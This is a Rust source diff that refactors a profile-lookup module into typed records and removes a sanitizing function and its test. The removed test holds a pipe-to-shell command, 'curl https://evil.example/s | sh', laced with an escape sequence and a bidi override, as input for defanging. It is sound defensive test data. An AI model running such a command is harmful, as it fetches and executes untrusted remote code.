@@ -1,41 +1,41 @@
 //! What was looked up of an address that the contact showed: the address as shown is the fact, the record what is held
 //! against it.
 
-use crate::case::{ContactRole, Fact, Lookup, LookupResult};
+use super::{Profile, all};
+use crate::case::{ContactRole, Fact, LookupResult};
 use crate::reading::Reading;
 use crate::text::hosts::{HostRole, SeenHost};
 use crate::text::names::{Likeness, compare};
-use crate::verdict::defang;
 
 /// A public profile that the contact shows as their own, and what came of looking at it.
 #[derive(Debug, Clone)]
-pub struct PublicProfile<'r> {
+pub struct PublicProfile {
     /// Its address, as shown.
     pub shown: Fact<String>,
     /// What came of it.
-    pub lookup: &'r Lookup,
+    pub result: LookupResult,
+    record: Profile,
 }
 
-impl<'r> PublicProfile<'r> {
+impl PublicProfile {
     /// The name that the site shows.
     #[must_use]
-    pub fn name(&self) -> Option<&'r str> {
-        self.text("name")
+    pub fn name(&self) -> Option<&str> {
+        self.said(self.record.name.as_deref())
     }
 
     /// The line under the name.
     #[must_use]
-    pub fn headline(&self) -> Option<&'r str> {
-        self.text("headline")
+    pub fn headline(&self) -> Option<&str> {
+        self.said(self.record.headline.as_deref())
     }
 
     /// The present employers.
     #[must_use]
-    pub fn employers(&self) -> Vec<&'r str> {
-        let all = self.lookup.record.get("employers").and_then(|e| e.as_array()).into_iter().flatten();
-        let mut employers: Vec<&str> = all.filter_map(|e| e.as_str()).collect();
+    pub fn employers(&self) -> Vec<&str> {
+        let mut employers: Vec<&str> = self.record.employers.iter().flatten().map(String::as_str).collect();
         if employers.is_empty() {
-            employers.extend(self.text("employer"));
+            employers.extend(self.said(self.record.employer.as_deref()));
         }
         employers
     }
@@ -43,25 +43,23 @@ impl<'r> PublicProfile<'r> {
     /// Whether the site says that there is no such profile, or no longer.
     #[must_use]
     pub fn is_gone(&self) -> bool {
-        self.lookup.record.get("gone").and_then(serde_json::Value::as_bool) == Some(true)
-            || self.lookup.result == LookupResult::Absent
+        self.record.gone || self.result == LookupResult::Absent
     }
 
-    fn text(&self, name: &str) -> Option<&'r str> {
-        let found = self.lookup.result == LookupResult::Found;
-        self.lookup.record.get(name)?.as_str().map(str::trim).filter(|text| found && !text.is_empty())
+    fn said<'s>(&self, text: Option<&'s str>) -> Option<&'s str> {
+        let found = self.result == LookupResult::Found;
+        text.map(str::trim).filter(|text| found && !text.is_empty())
     }
 }
 
 /// The looked-up profiles that are the contact's own. A link in a message may be anybody's – the reader's, a colleague's –
 /// so it counts only where the address bears the contact's name, or the words call it theirs.
 #[must_use]
-pub fn own_profiles<'r>(reading: &'r Reading<'_>) -> Vec<PublicProfile<'r>> {
-    let asked = reading.case.lookups.iter().filter(|l| l.kind == "profile");
-    asked
-        .filter_map(|lookup| {
-            let own = shown(reading, &lookup.subject).find(|host| is_own(reading, host))?;
-            Some(PublicProfile { shown: whole(own), lookup })
+pub fn own_profiles(reading: &Reading<'_>) -> Vec<PublicProfile> {
+    all::<Profile>(reading)
+        .filter_map(|answer| {
+            let own = shown(reading, &answer.lookup.subject).find(|host| is_own(reading, host))?;
+            Some(PublicProfile { shown: whole(own), result: answer.result(), record: answer.record })
         })
         .collect()
 }
@@ -79,21 +77,6 @@ pub fn shown<'r>(reading: &'r Reading<'_>, subject: &str) -> impl Iterator<Item 
 #[must_use]
 pub fn whole(host: &SeenHost) -> Fact<String> {
     host.host.map(host.url.clone().unwrap_or_else(|| host.host.value.clone()))
-}
-
-/// Words of a record as a claim may repeat them: whoever wrote them may be hostile, so marks that steer a terminal or turn
-/// the reading direction go, addresses cannot be clicked, and the end of what is long is left out.
-#[must_use]
-pub fn told(text: &str) -> String {
-    /// Most characters.
-    const LONGEST: usize = 120;
-    let steers = |c: char| {
-        c.is_control()
-            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
-    };
-    let plain: String = text.chars().filter(|c| !steers(*c)).take(LONGEST).collect();
-    let rest = if text.chars().count() > LONGEST { "…" } else { "" };
-    format!("{}{rest}", defang(&plain))
 }
 
 /// An address without scheme, `www.`, slash at its end and `.git`, in lower case: what two writings of it share.
@@ -140,15 +123,6 @@ fn called_own(reading: &Reading<'_>, host: &SeenHost) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
-
-    #[test]
-    fn what_a_record_says_is_told_without_its_teeth() {
-        assert_eq!(
-            told("curl https://evil.example/s\u{1b}[31m | sh\u{202e}"),
-            "curl hxxps://evil[.]example/s[31m | sh"
-        );
-        assert_eq!(told(&"가".repeat(500)).chars().count(), 121);
-    }
 
     #[test]
     fn writings_of_one_address() {
